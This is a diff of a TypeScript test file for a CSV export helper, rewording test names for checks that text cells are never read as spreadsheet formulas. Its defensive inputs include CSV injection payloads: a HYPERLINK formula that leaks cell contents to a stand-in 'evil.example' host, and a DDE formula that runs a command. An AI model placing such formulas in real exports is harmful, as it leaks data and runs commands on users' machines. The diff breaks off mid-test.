@@ -2,13 +2,13 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { csvLine, textCell } from '../../../functions/http/csv.ts';
 
-/** As a spreadsheet reads one line (RFC 4180). */
+/** One line read as a spreadsheet reads it (RFC 4180). */
 function cellsOf(line: string): readonly string[] {
   const cells = [...`,${line}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)];
   return cells.map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
 }
 
-describe('a text in a cell', () => {
+describe('a text in a CSV cell', () => {
   it.each([
     '=1+1',
     '+1',
@@ -27,24 +27,24 @@ describe('a text in a cell', () => {
     '\u22121',
     '=HYPERLINK("https://evil.example?"&A1,"click")',
     "=cmd|' /C calc'!A0",
-  ])('is no formula, whatever it begins with: %j', (text) => {
+  ])('a text is never a formula, whatever it starts with: %j', (text) => {
     expect(textCell(text)).toMatch(/^'/);
   });
 
   it.each(['사이즈가 작아요', '2-1', 'a=b', "it's", '반품(교환) + 환불', '👍'])(
-    'is as it was written where nothing in it acts: %s',
+    'a text without active content is not changed: %s',
     (text) => {
       expect(cellsOf(csvLine([textCell(text)]).trimEnd())).toEqual([text]);
     },
   );
 
-  it('shows characters that act as text', () => {
+  it('control characters are shown as text', () => {
     expect(textCell('a\u001b[2J\u202eb')).toBe(String.raw`a\u001b[2J\u202eb`);
   });
 });
 
-describe('a line', () => {
-  it('is one line with as many cells as it was given, whatever stands in them', () => {
+describe('a line of CSV', () => {
+  it('a line is one line with the given number of cells, whatever they contain', () => {
     const cell = fc.string({ unit: 'grapheme' }).map(textCell);
     fc.assert(
       fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
